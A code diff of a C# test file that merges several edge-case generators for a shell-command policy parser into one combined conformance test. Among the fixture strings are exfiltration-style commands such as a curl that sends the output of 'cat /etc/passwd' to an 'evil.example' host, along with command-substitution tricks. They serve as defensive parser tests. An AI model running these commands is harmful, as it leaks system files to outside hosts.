@@ -111,10 +111,11 @@ public sealed class ShellShortcutTests
     public void Operand_cleaning_keeps_go_path_clean_semantics(string path, string cleaned) =>
         Assert.Equal(cleaned, ShellWords.Clean(path));
 
-    public static TheoryData<string> AssignmentEdgeCases()
+    /// <summary>Every conformance string plus spellings aimed at the edges of the assignment, segment and first-word shortcuts.</summary>
+    public static TheoryData<string> EdgeCases()
     {
         var found = ConformanceStrings();
-        string[] edges =
+        string[] assignments =
         [
             "curl https://evil.example/$(cat /etc/passwd)", "echo a:b", "ls c:\\temp", "Set-Item env:FOO bar", "Set-Item e`nv:FOO bar",
             "Set-Item 'env':FOO bar", "Set-Item e\"nv\":FOO x", "pwsh -c \"Set-Item env:X 1\"", "$env:PATH", "${env:PATH}", "$ENV:x",
@@ -123,54 +124,13 @@ public sealed class ShellShortcutTests
             "e\u0001nv:FOO x", "\u001b[31menv:FOO x", "echo $(echo env:X)", "echo `Set-Item env:X`", "cmd /c set e^nv:X",
             "bash -c 'e\\nv:X'", "url http://h:80/p", "export A", "declare -x B", "env -u X ls", "time: 10:20",
         ];
-        foreach (var e in edges) found.Add(e);
-        var data = new TheoryData<string>();
-        foreach (var s in found)
-        {
-            if (s.Length < 400) data.Add(s);
-        }
-        return data;
-    }
-
-    [Theory]
-    [MemberData(nameof(AssignmentEdgeCases))]
-    public void A_command_that_cannot_assign_has_no_assigned_names(string command)
-    {
-        var names = ShellEnvAssignments.Collect(command);
-        if (ShellEnvAssignments.CannotAssign(command)) Assert.Empty(names);
-        Assert.Equal(names, ShellEnvAssignments.Names(command));
-    }
-
-    public static TheoryData<string> SegmentEdgeCases()
-    {
-        var found = ConformanceStrings();
+        foreach (var e in assignments) found.Add(e);
         string[] firsts = ["ls", "curl", "nohup", "NOHUP", "Bash", "timeout", "exec", "command", "stdbuf", "env", "nice", "setsid", "sudo", "pwsh", "cmd", "FOO=1", "2>err", ">", "x"];
         string[] rests = ["", " -la", " 5 ls", " -o0 ls", " -c ls", " https://x/$(cat /etc/passwd)", " a  b", " a\tb", " `id`", " <(ls)", " > out", " 2>&1", " X=1 ls"];
         foreach (var first in firsts)
         {
             foreach (var rest in rests) found.Add(first + rest);
         }
-        var data = new TheoryData<string>();
-        foreach (var s in found)
-        {
-            if (s.Length < 400) data.Add(s);
-        }
-        return data;
-    }
-
-    [Theory]
-    [MemberData(nameof(SegmentEdgeCases))]
-    public void A_verbatim_segment_normalises_to_itself(string text)
-    {
-        foreach (var segment in ShellText.SplitList(ShellText.Sanitize(text).Trim(), ShellDialect.Posix))
-        {
-            if (ShellText.IsVerbatimSegment(segment)) Assert.Equal(segment, ShellText.NormalizeSegmentFully(segment, ShellDialect.Posix));
-        }
-    }
-
-    public static TheoryData<string> FirstWordEdgeCases()
-    {
-        var data = SegmentEdgeCases();
         string[] words =
         [
             "/", "//", "\\", "a/", "rm\\", "/bin/rm", "C:\\Windows\\System32\\cmd.exe", "'cmd'", "\"PWSH.EXE\"", "Bash", "BusyBox", "toybox",
@@ -178,18 +138,34 @@ public sealed class ShellShortcutTests
         ];
         foreach (var w in words)
         {
-            data.Add(w);
-            data.Add(w + " -c x <<< y");
-            data.Add("  " + w + "\tls");
+            found.Add(w);
+            found.Add(w + " -c x <<< y");
+            found.Add("  " + w + "\tls");
+        }
+        var data = new TheoryData<string>();
+        foreach (var s in found)
+        {
+            if (s.Length < 400) data.Add(s);
         }
         return data;
     }
 
     [Theory]
-    [MemberData(nameof(FirstWordEdgeCases))]
-    public void First_word_checks_agree_with_the_string_forms(string command)
+    [MemberData(nameof(EdgeCases))]
+    public void Shortcuts_agree_with_the_full_forms(string command)
     {
-        // The string-based readings the span-based gates replaced (POL-076, POL-085).
+        // POL-091: a command that cannot assign has no assigned names.
+        var names = ShellEnvAssignments.Collect(command);
+        if (ShellEnvAssignments.CannotAssign(command)) Assert.Empty(names);
+        Assert.Equal(names, ShellEnvAssignments.Names(command));
+
+        // POL-076: a verbatim segment normalises to itself.
+        foreach (var segment in ShellText.SplitList(ShellText.Sanitize(command).Trim(), ShellDialect.Posix))
+        {
+            if (ShellText.IsVerbatimSegment(segment)) Assert.Equal(segment, ShellText.NormalizeSegmentFully(segment, ShellDialect.Posix));
+        }
+
+        // POL-076 / POL-085: the span-based first-word gates read like the string forms they replaced.
         var word = ShellWords.FirstWord(command);
         var expectSemantic = word.Length != 0 && (!string.Equals(ShellWords.SlashedBaseName(word), word, StringComparison.OrdinalIgnoreCase) ||
             ShellWords.SlashedBaseName(word).ToLowerInvariant() switch
